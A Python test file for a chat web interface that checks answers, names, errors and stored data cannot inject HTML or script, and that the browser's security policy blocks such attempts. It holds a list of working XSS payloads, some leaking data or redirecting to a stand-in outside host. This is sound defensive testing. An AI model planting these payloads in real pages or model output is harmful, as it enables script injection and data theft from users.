"""What a model, a name, an error or the browser's storage must not be able to do."""
import json

from harness import ask, last, true

# Each would set window.pwned, load something, or lead somewhere, if it were read as HTML or as an address.
TEXTS = [
    "<img src=x onerror=pwned=1>",
    "<script>pwned=1</script>",
    "<svg/onload=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:pwned=1>click</a>",
    "[click](javascript:pwned=1)",
    "[click](JaVaScRiPt:pwned=1)",
    "[click](java\tscript:pwned=1)",
    "[click](\x01javascript:pwned=1)",
    "[click](data:text/html,<script>pwned=1</script>)",
    "[click](vbscript:pwned=1)",
    "[click](//elsewhere.example/x)",
    "[click](/v1/models)",
    "[click](<javascript:pwned=1>)",
    "<javascript:pwned=1>",
    "![leak](http://elsewhere.example/leak?text)",
    "![leak][1]\n\n[1]: http://elsewhere.example/leak",
    "[a](http://elsewhere.example/\"onmouseover=pwned=1)",
    "[a](http://elsewhere.example/ \"t\" onmouseover=pwned=1)",
    "```<img src=x onerror=pwned=1>\n</code></pre><script>pwned=1</script>\n```",
    "`<img src=x onerror=pwned=1>`",
    "| a |\n| --- |\n| <img src=x onerror=pwned=1> |",
    "# <img src=x onerror=pwned=1>",
    "> <style>*{display:none}</style><link rel=stylesheet href=http://elsewhere.example/x.css>",
    "- <form action=http://elsewhere.example><input autofocus onfocus=pwned=1></form>",
    "&lt;img src=x onerror=pwned=1&gt;",
    "<base href=http://elsewhere.example/><meta http-equiv=refresh content='0;url=http://elsewhere.example'>",
    "<div style=position:fixed;inset:0 id=app>over</div>",
    "**<b onclick=pwned=1>x</b>**",
    "\u202eevil\u202c <math><mi//xlink:href='data:x,<script>pwned=1</script>'>",
]

AUDIT = """() => {
    const bad = [];
    if (window.pwned) bad.push('a script ran');
    const allowed = new Set('DIV P SPAN A BR EM STRONG DEL CODE PRE H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BUTTON svg use ARTICLE DETAILS SUMMARY FORM TEXTAREA'.split(' '));
    for (const e of document.querySelectorAll('#messages *, #list *, #title *, #toast *, #banner *')) {
        if (!allowed.has(e.tagName)) bad.push('element ' + e.tagName);
        for (const a of e.attributes) {
            if (/^on|^style$|^src/.test(a.name)) bad.push(e.tagName + ' has ' + a.name + '=' + a.value);
            if (a.name === 'href' && e.tagName === 'A' && !e.closest('#list') && !/^(https?|mailto):/.test(a.value)) bad.push('link to ' + a.value);
            if (a.name === 'id') bad.push('id ' + a.value);
        }
        if (e.tagName === 'A' && !e.closest('#list') && (e.target !== '_blank' || !e.rel.includes('noopener'))) bad.push('link that keeps its opener');
    }
    return bad;
}"""


def clean(page, where):
    page.wait_for_timeout(30)  # for what would load
    bad = page.evaluate(AUDIT)
    assert not bad, (where, bad)


def check_xss_answers(w):
    """Hostile answers, thinking and messages of the user: as they come, and after a reload."""
    with w.scripted.page() as p:
        for i, t in enumerate(TEXTS):
            w.fake.answers["x%d" % i] = [(0, "reasoning_content", t), (0, "content", t[:7]), (0, "content", t[7:])]
            ask(p, "x%d" % i)
            p.locator(".last summary").click()
            clean(p, t)
        ask(p, TEXTS[0])
        assert p.inner_text("#messages li:nth-last-child(2) .text") == TEXTS[0]
        p.reload()
        p.wait_for_selector(".msg")
        clean(p, "after a reload")
        for summary in p.locator("details:not([hidden]) summary").all():
            summary.click()
        clean(p, "thinking after a reload")


def forced(text):
    """Adds a grammar that allows this text alone to a request."""
    def change(route):
        body = {**json.loads(route.request.post_data), "grammar": "root ::= " + json.dumps(text)}
        route.continue_(post_data=json.dumps(body))
    return change


def check_xss_model(w):
    """The real model is made to write hostile text, by a grammar that allows no other."""
    with w.real.page() as p:
        for t in (TEXTS[0], TEXTS[1], TEXTS[5]):
            p.route("**/v1/chat/completions", forced(t))
            ask(p, "Write it")
            shown = last(p).inner_text()
            assert shown == ("click" if t.startswith("[") else t), (t, shown)
            clean(p, t)
            p.unroute("**/v1/chat/completions")


def check_xss_names(w):
    """Names of models, errors, titles and files."""
    t = TEXTS[0]
    w.fake.models = [t, "small"]
    w.fake.answers["fail"] = (400, t)
    w.fake.status["models"][0]["name"] = t
    try:
        with w.scripted.page() as p:
            true(p, "document.getElementById('model').value.startsWith('<img')")
            ask(p, "fail")
            assert p.inner_text(".last .note") == "Error: " + t
            p.click("#open-settings")
            p.fill("#s-title", t)
            p.keyboard.press("Escape")
            true(p, "document.getElementById('title').textContent.startsWith('<img')")
            assert p.inner_text("#title") == t and t in p.inner_text("#list")
            p.click("#to-device")
            p.wait_for_selector(".model h3")
            assert p.inner_text(".model h3") == t
            clean(p, "names")
    finally:
        w.fake.models = ["small", "large"]
        w.fake.status["models"][0]["name"] = "small"


def check_xss_storage(w):
    """Whatever stands in the browser's storage, the page starts and stays clean."""
    t = TEXTS[0]
    storage = {
        "qwq.c.a": json.dumps({"title": t, "updated": 5, "settings": {"model": t, "system": 7, "numbers": {"temperature": "hot", "top_k": -5, "seed": 1e99}}, "messages": [
            {"role": "assistant", "content": t, "note": t, "stats": t, "reasoning": t, "model": t}, {"role": "system", "content": "x"}, 7, None, {"role": "user", "content": {"a": 1}}]}),
        "qwq.c.b": "{", "qwq.c.c": "null", "qwq.c.d": "[]", "qwq.c.../../x": '{"messages":{}}', "qwq.settings": '"x"', "qwq.theme": "<b>", "qwq.c.\"]": '{"messages":[{"role":"user","content":"odd"}]}',
    }
    with w.scripted.page(storage=json.dumps(storage)) as p:
        p.wait_for_selector("#list li")
        p.click("#list a >> nth=0")
        p.wait_for_selector(".msg.assistant")
        assert p.locator(".msg").count() == 2
        clean(p, "storage")
        ask(p, "still works")
        assert w.fake.bodies[-1].keys() == {"model", "messages", "stream", "stream_options"}, w.fake.bodies[-1]


def check_policy(w):
    """The browser itself refuses HTML from text, scripts of others and requests elsewhere."""
    with w.scripted.page() as p:
        results = p.evaluate("""async () => {
            const out = {};
            const attempt = async (name, f) => { try { await f(); out[name] = 'done'; } catch (e) { out[name] = e.name; } };
            await attempt('html', () => { document.createElement('div').innerHTML = '<b>x</b>'; });
            await attempt('eval', () => new Promise((done, fail) => setTimeout(() => { try { done((0, eval)('1')); } catch (e) { fail(e); } })));
            await attempt('elsewhere', () => fetch('http://127.0.0.1:9/'));
            await attempt('inline', () => new Promise((done, fail) => {
                addEventListener('securitypolicyviolation', () => fail({name: 'violation'}), {once: true});
                const e = document.createElement('style'); e.textContent = '*{color:red}'; document.head.append(e); setTimeout(done, 300);
            }));
            return out;
        }""")
        assert results["html"] == "TypeError" and results["eval"] in ("EvalError", "TypeError") and results["elsewhere"] == "TypeError" and results["inline"] == "violation", results
        assert any("Content Security Policy" in x or "violates" in x for x in p.wrong), p.wrong
        p.wrong.clear()
